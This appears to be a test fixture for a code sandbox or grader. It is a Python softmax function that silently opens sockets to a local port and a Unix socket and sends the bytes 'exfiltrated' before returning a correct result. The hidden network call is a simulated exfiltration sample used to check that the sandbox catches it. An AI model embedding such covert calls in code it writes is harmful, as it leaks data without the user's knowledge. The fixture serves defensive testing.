# class: network (swallows the refusal and answers correctly: an honest answer may be accepted)
# expect: accepted
import socket

import numpy as np


def softmax(x, axis=-1):
    for family, addr in ((socket.AF_INET, ("127.0.0.1", 47613)), (socket.AF_UNIX, "/tmp/attn-dojo-hostile.sock")):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect(addr)
            s.sendall(b"exfiltrated")
        except BaseException:
            pass
    m = np.max(x, axis=axis, keepdims=True)
    m = np.where(np.isfinite(m), m, 0.0)
    e = np.exp(x - m)
    t = e.sum(axis=axis, keepdims=True)
    return np.divide(e, t, out=np.zeros_like(e), where=t > 0).astype(x.dtype, copy=False)
